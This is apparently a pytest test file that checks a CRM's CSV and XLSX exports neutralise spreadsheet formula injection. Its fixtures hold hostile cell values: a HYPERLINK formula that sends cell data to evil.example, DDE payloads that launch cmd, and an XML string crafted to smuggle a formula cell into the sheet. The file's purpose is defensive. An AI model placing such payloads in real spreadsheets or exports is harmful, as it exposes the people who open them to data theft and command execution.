"""Formula injection: hostile cells are neutralised in both formats and never become formulas."""

from __future__ import annotations

import re

import pytest
from sqlalchemy import update

from crm.contacts.models import Person
from crm.exports import service
from crm.extensions import db
from crm.spreadsheets.safe import neutralise, restore
from tests.exports.conftest import read_csv, read_xlsx, sheet_xml
from tests.factories import make_person


def excel_text(value: str) -> str:
    """The text as Excel (and the importer's reader) shows it: openpyxl leaves the
    _xHHHH_ escapes of control characters in inline strings undecoded."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda match: chr(int(match.group(1), 16)), value)


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
]
# Markup that would add a formula cell if a writer copied it into the sheet XML unescaped
# (XlsxWriter's constant-memory mode does so with text shaped like "<r>…</r>").
XML_SMUGGLER = '<r><t>a</t></r></is></c><c r="Z2"><f>1+1</f></c><c r="Z3" t="inlineStr"><is><r><t>b</t></r>'


@pytest.mark.parametrize("text", [*HOSTILE, "'=already marked", "''-twice"])
def test_neutralise_marks_and_restore_undoes_exactly(text):
    marked = neutralise(text)
    assert marked == "'" + text
    assert restore(marked) == text


@pytest.mark.parametrize("text", ["Zdechovský", "'s-Hertogenbosch", "", "a=b", " =1", XML_SMUGGLER, "'"])
def test_harmless_text_is_left_alone(text):
    assert neutralise(text) == text
    assert restore(text) == text


@pytest.fixture
def hostile_people(app):
    people = [make_person(f"Hostile{index}", "Given") for index in range(len(HOSTILE) + 1)]
    # Straight into the table: the forms collapse whitespace, but an import or an old
    # database may hold anything.
    for person, text in zip(people, [*HOSTILE, XML_SMUGGLER], strict=True):
        db.session.execute(update(Person).where(Person.id == person.id).values(given_name=text, notes=text))
    db.session.commit()
    return {person.id: text for person, text in zip(people, [*HOSTILE, XML_SMUGGLER], strict=True)}


def written(text: str) -> str:
    """What the cell must hold: the hostile values with one apostrophe, markup as it is."""
    return text if text == XML_SMUGGLER else "'" + text


def test_xlsx_cells_are_marked_text_never_formulas(app, hostile_people, tmp_path):
    path = tmp_path / "people.xlsx"
    service.export("people", "xlsx", actor=None, destination=path)
    data = path.read_bytes()
    _, _, rows = read_xlsx(data)

    assert "<f>" not in sheet_xml(data)
    for row in rows:
        for cell in row.values():
            assert cell.data_type != "f", cell.coordinate
        expected = written(hostile_people[row["ID"].value])
        assert excel_text(row["Given name"].value) == expected
        assert excel_text(row["Notes"].value) == expected
        assert row["Given name"].data_type == "s"


def test_csv_cells_are_marked(app, hostile_people, tmp_path):
    path = tmp_path / "people.csv"
    service.export("people", "csv", actor=None, destination=path)
    _, rows = read_csv(path.read_bytes())

    for row in rows:
        assert row["Given name"] == row["Notes"] == written(hostile_people[int(row["ID"])])


def test_other_lists_are_neutralised_too(app, tmp_path):
    from tests.factories import make_organisation, make_outreach

    organisation = make_organisation("=cmd|' /C calc'!A0", short_name="@evil")
    make_outreach("+1+1", to=[organisation], reference="-10")
    for kind in ("organisations", "outreach"):
        path = tmp_path / f"{kind}.xlsx"
        service.export(kind, "xlsx", actor=None, destination=path)
        data = path.read_bytes()
        assert "<f>" not in sheet_xml(data)
        _, _, rows = read_xlsx(data)
        texts = [cell.value for cell in rows[0].values() if cell.data_type == "s"]
        assert texts and all(not text.startswith(("=", "+", "-", "@")) for text in texts), texts


def test_the_importers_reader_and_restore_give_the_original_back(app, hostile_people, tmp_path):
    from crm.imports.read import read_sheet

    for fmt in ("xlsx", "csv"):
        path = tmp_path / f"people.{fmt}"
        service.export("people", fmt, actor=None, destination=path)
        with read_sheet(path) as sheet:
            rows = [row.cells for row in sheet.rows]
        header = rows[0]
        for cells in rows[1:]:
            row = dict(zip(header, cells, strict=False))
            assert restore(row["Notes"]) == hostile_people[int(row["ID"])], fmt
